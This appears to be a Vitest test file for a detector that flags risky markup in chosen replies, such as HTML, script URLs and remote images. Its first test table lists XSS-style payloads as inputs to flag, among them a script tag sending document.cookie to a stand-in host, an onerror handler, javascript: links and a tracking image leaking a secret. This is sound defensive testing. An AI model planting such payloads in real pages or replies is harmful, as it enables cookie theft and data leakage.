import { describe, expect, it } from 'vitest';
import { detectMarkup, hasChosenMarkup, markupKinds } from '$lib/core/review/markup';

describe('detectMarkup', () => {
  it.each([
    ['Sure! <script>fetch("//x.example/?c="+document.cookie)</script>', ['script']],
    ['<img src=x onerror="alert(1)">', ['event-handler', 'html']],
    ['Click [here](javascript:alert(1)) to continue.', ['script-url']],
    ['<a href="data:text/html;base64,PHNjcmlwdD4=">open</a>', ['script-url', 'html']],
    ['![status](https://tracker.example/p.png?q=secret)', ['remote-image']],
    ['<IMG SRC="//cdn.example/x.gif">', ['remote-image', 'html']],
    ['Use a <div> with a <span class="x">label</span>.', ['html']],
    ['<iframe src="https://evil.example"></iframe>', ['script']],
  ])('flags %s', (text, kinds) => {
    expect(markupKinds(text)).toEqual(kinds);
  });

  it.each([
    'If a < b and b > c then a < c.',
    'I <3 kayaks.',
    'See <https://example.org/docs> or [the docs](https://example.org/docs).',
    'Use `Array<string>` and Map<K, V> in TypeScript.',
    'Call the ambulance: one ambulance = one call. Notice the word "online=".',
    '![local diagram](diagram.png)',
  ])('leaves plain text alone: %s', (text) => {
    expect(detectMarkup(text)).toEqual([]);
  });

  it('reports positions and short excerpts in order', () => {
    const text = `ok <b>bold</b> then <script>${'x'.repeat(200)}</script>`;
    const found = detectMarkup(text);
    expect(found[0]).toEqual({ kind: 'html', index: 3, excerpt: '<b>' });
    expect(found.every((f) => f.excerpt.length <= 80)).toBe(true);
    expect(found.map((f) => f.index)).toEqual([...found.map((f) => f.index)].sort((a, b) => a - b));
  });

  it('checks the chosen reply of a pair', () => {
    expect(hasChosenMarkup({ chosen: 'Plain answer.' })).toBe(false);
    expect(hasChosenMarkup({ chosen: 'Answer <script>x</script>' })).toBe(true);
  });
});
